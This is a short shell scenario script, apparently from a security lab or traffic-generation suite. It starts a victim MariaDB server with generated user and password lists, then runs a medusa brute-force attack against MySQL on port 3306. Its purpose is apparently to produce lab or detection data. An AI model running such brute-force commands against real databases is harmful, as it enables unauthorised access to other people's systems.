# SPDX-License-Identifier: MIT
# label: bruteforce-other
# source: lab-medusa
# needs: medusa mariadbd
# seconds: 60
# Passwords for a data base by medusa, from outside.
. $lab/victims.sh

servers() {
	victim_mysql c
	words_up 120
	users_up 3
}

scenario() {
	_tasks=$(choose 1 3)
	setting options "-t $_tasks"
	attack s c tcp 3306 -- timeout 50 medusa -h "$(addr c)" -U "$work/users" -P "$work/words" \
		-M mysql -t "$_tasks"
}
